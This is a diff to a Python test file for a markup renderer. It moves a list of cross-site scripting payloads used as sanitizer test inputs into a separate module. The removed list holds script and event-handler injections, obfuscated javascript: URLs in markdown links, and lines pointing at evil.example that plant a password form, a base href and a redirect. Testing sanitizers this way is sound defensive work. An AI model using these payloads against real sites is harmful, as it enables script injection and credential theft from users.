@@ -13,44 +13,8 @@ from hypothesis import strategies as st
 
 from benchplatform import markup
 from benchplatform.markup import LONGEST_TEXT, render
+from tests.attacks import ATTACKS
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<b onmouseover=alert(1)>x</b>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<base href='//evil.example/'>",
-    "<form action='//evil.example'><input name=password></form>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<object data='data:text/html,x'></object>",
-    "<math><mtext></mtext><script>alert(1)</script></math>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<a href='x' style='position:fixed'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](java&#10;script:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](vbscript:msgbox(1))",
-    "<javascript:alert(1)>",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    '![x](/files/1/a.png" onerror="alert(1))',
-    '[x](http://a "onmouseover=alert(1)//")',
-    "[x]: javascript:alert(1)\n\n[x]",
-    "`<script>alert(1)</script>`",
-    "```html\n<script>alert(1)</script>\n```",
-    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
-    "[<img src=x onerror=alert(1)>](http://a)",
-    "\ue000x\ue001(javascript:alert(1))",
-    "\x02script\x03<script>alert(1)</script>",
-]
 ATTRIBUTES = {"href", "title", "rel", "src", "alt", "start"}
 TAGS = {
     "a", "abbr", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "hr", "img", "li", "ol", "p",
